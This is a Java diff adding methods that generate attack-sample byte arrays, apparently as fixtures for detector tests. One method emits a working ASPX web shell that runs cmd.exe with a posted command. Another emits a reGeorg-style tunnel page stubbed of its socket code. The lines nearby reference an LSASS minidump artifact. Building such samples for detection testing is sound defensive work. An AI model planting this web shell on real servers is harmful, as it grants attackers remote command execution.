@@ -121,6 +121,28 @@ public final class Artifacts {
                 + "}\r\n").getBytes(StandardCharsets.US_ASCII);
     }
 
+    /** An ASPX page that runs {@code cmd.exe} with the posted command and writes its output back. */
+    public static byte[] commandShell(String parameter) {
+        return ("<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.Diagnostics\" %>\r\n"
+                + "<script runat=\"server\">\r\nvoid Page_Load(object sender, EventArgs e) {\r\n"
+                + "  var psi = new ProcessStartInfo(\"cmd.exe\");\r\n  psi.Arguments = \"/c \" + Request.Form[\"" + parameter
+                + "\"];\r\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\r\n"
+                + "  Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /** The shape of reGeorg's ASP.NET tunnel (its headers and commands), without its socket code. */
+    public static byte[] tunnel() {
+        return ("<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\r\n<%@ Import Namespace=\"System.Net.Sockets\" %>\r\n"
+                + "<%\r\n  String cmd = Request.Headers.Get(\"X-CMD\");\r\n  if (cmd == \"CONNECT\") {\r\n"
+                + "    String target = Request.Headers.Get(\"X-TARGET\"); int port = int.Parse(Request.Headers.Get(\"X-PORT\"));\r\n"
+                + "    Socket sock = null; Session.Add(\"socket\", sock); Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
+                + "  } else if (cmd == \"DISCONNECT\") { Session.Abandon(); Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
+                + "  } else if (cmd == \"FORWARD\") { Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
+                + "  } else if (cmd == \"READ\") { Response.AddHeader(\"X-STATUS\", \"OK\"); }\r\n%>\r\n")
+                .getBytes(StandardCharsets.US_ASCII);
+    }
+
     /**
      * The start of an LSASS minidump as comsvcs.dll's MiniDump writes it: the {@code MDMP} signature and version,
      * then scrambled stream data standing in for the process memory (a real dump is tens of megabytes).
